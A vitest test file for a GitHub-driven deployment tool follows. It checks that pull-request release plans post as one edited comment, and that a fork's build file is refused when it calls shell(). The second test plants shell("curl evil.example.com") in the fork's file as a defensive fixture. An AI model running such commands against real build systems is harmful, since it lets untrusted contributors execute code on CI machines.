import { expect, test } from "vitest";
import { actionStep, logsOf, stage } from "./stage.js";

const deployable = `
def build():
    return done()

def up(environment):
    return done()

def down(environment):
    return done()

phase("build", tasks = [task(build, "build")])
phase("deploy", tasks = [deploy(environment = e, up = up, down = down) for e in environments()])
`;
const environments = 'register_environment(environment("eu"))\n';

test("a pull request gets its plan in one comment, which is edited in place and never doubled", async () => {
  const { github, repository, runner, drain } = await stage({ "env.ocu.star": environments, "a.ocu.star": deployable });
  await drain();
  await repository.commit({ "a.ocu.star": `${deployable}# two\n` }, { branch: "topic", message: "Two" });
  await github.pull(repository, { head: "topic" });
  const actions = github.actions(repository);
  const results = await runner.drain(repository);
  const planned = results.filter(({ run }) => run.event === "pull_request");
  expect(
    planned.map(({ conclusion }) => conclusion),
    logsOf(results),
  ).toEqual(["success"]);
  const [comment] = github.comments(repository);
  expect(comment?.body).toContain("<!-- ocuroot:plan workflow=ocuroot.yml -->");
  expect(comment?.body).toContain("| deploy eu | r1 → new | phase deploy |");
  expect(actionStep(planned[0] as never).summary).toContain("Release plan for");
  expect(actions.runs.filter(({ event }) => event === "workflow_dispatch")).toEqual([]);
});

test("a fork's files are planned without the machine: the refused call is named", async () => {
  const { github, repository, runner, drain } = await stage({ "a.ocu.star": deployable });
  await drain();
  const before = repository.head("ocuroot-state");
  const fork = await github.repository("eve/shop", {
    files: { ...repository.files("main"), "a.ocu.star": `shell("curl evil.example.com")\n${deployable}` },
  });
  await github.pull(repository, { head: "main", from: fork });
  const results = await runner.drain(repository);
  const planned = results.find(({ run }) => run.event === "pull_request");
  expect(planned?.conclusion, logsOf(results)).toBe("failure");
  const step = actionStep(planned as never);
  expect(step.log).toContain("shell() is off in the plan of a pull request from elsewhere");
  expect(step.annotations).toContainEqual(
    expect.objectContaining({ kind: "error", properties: expect.objectContaining({ file: "a.ocu.star", line: "1" }) }),
  );
  expect(step.summary).toContain("Release plan failed");
  expect(github.comments(repository)).toEqual([]);
  expect(repository.head("ocuroot-state")).toBe(before);
});
